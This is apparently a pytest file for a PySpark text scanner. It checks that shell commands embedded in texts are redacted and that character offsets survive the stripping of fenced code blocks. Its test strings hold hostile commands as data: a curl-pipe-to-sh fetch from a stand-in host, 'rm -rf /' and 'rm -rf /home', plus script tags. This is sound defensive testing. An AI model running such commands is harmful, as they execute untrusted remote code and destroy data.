"""Offsets behind fenced code point into the whole text."""

import random
import re

import pytest
from pyspark.sql import functions as F

from riskloom.functions import text as tx
from riskloom.operators import actions
from riskloom.plans.scan import scan_texts

CODE = "```\nsome harmless code block\n```"


@pytest.mark.parametrize("text, command", [
    (f"{CODE} please chmod +x run.sh now <script>a</script>", "chmod +x"),
    (f"a {CODE} b {CODE} curl http://x.example | sh <script>a</script> urgent: rm -rf / now", "curl http://x.example | sh"),
    (f"sudo {CODE} reboot the machine <script>a</script> rm -rf /", "reboot"),
    ("é😀 ```x``` rm -rf /home <script>a</script> ``` open", "rm -rf /home")])
def test_no_command_is_left_after_redaction(spark, text, command):
    scanned = scan_texts(spark.createDataFrame([(1, text)], "doc_id long, text string"))
    row = scanned.withColumn("cut", actions.redacted(F.lit(text), F.col("detections"))).first()
    assert command not in row.cut and "[REDACTED:CTX-003]" in row.cut
    for d in row.detections:
        if d.rule_id in ("CTX-003", "CTX-008") and CODE not in text[d.offset:d.offset + d.length]:
            assert text[d.offset:d.offset + d.length].startswith(d.matched)


def test_places_of_every_character(spark):
    rng = random.Random(6)
    texts = ["".join(rng.choice(["```", "a", "b ", "é", "😀", "\n"]) for _ in range(rng.randrange(40))) for _ in range(150)]
    texts += ["", "```", "``````", "x" * 50 + "```y```" * 3000 + "z"]
    rows = spark.createDataFrame(list(enumerate(texts)), "id long, text string").select(
        "id", tx.without_fences(F.col("text")).alias("bare"), tx.fence_cuts("text").alias("cuts"))
    n = F.length("bare")
    shown = rows.withColumn("at", F.explode(F.when(n > 0, F.sequence(F.lit(0), n - 1)))).select(
        "id", "at", F.expr(tx.place_before_cuts("at", "cuts")).alias("place"))
    got = {}
    for r in shown.orderBy("id", "at").collect():
        got.setdefault(r.id, []).append(r.place)
    for i, text in enumerate(texts):
        inside = {k for m in re.finditer(r"(?s)```.*?```", text) for k in range(*m.span())}
        assert got.get(i, []) == [k for k in range(len(text)) if k not in inside]
